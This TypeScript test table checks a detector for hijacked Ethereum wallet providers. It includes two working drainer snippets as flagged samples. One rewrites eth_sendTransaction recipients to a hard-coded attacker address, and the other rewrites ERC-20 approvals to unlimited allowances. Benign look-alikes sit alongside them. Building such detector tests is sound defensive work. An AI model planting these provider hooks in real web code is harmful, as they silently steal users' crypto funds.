import { detectorTable, type DetectorCase } from './detector-table.ts';

const ID = 'wallet-provider-hook';

const ATTACKER = '0x1fd0bae5e67bb9d2759235937aa53bb93775c513';

// [what the case shows, code, expected severity (null: no finding)]
const table: DetectorCase[] = [
  ['ethereum.request wrapped to redirect eth_sendTransaction to a hard-coded address',
    `var orig = window.ethereum.request.bind(window.ethereum);
     window.ethereum.request = async function (args) { if (args.method === 'eth_sendTransaction') args.params[0].to = '${ATTACKER}'; return orig(args); };`,
    'high'],
  ['a provider from EIP-6963 announcements wrapped to rewrite ERC-20 approvals',
    `function wrap(p) { var o = p.request.bind(p); p.request = function (a) { if (a.method === 'eth_sendTransaction' && a.params[0].data.startsWith('0x095ea7b3')) a.params[0].data = '0x095ea7b3' + 'f'.repeat(64); return o(a); }; }
     window.addEventListener('eip6963:announceProvider', function (e) { wrap(e.detail.provider); }); wrap(window.ethereum);`,
    'high'],
  // benign look-alikes
  ['a dapp calling the provider, not replacing it',
    `window.ethereum.request({ method: 'eth_sendTransaction', params: [{ from: me, to: '${ATTACKER}', value: '0x0' }] });`,
    null],
  ['a logging wrapper without hard-coded recipients or calldata',
    `var o = window.ethereum.request.bind(window.ethereum); window.ethereum.request = function (a) { console.debug('rpc', a.method); return o(a); };`,
    'low'],
  ['an HTTP client assigning its own request method',
    `client.request = function (opts) { return fetch(opts.url, opts); };`,
    null],
];

detectorTable(ID, table);
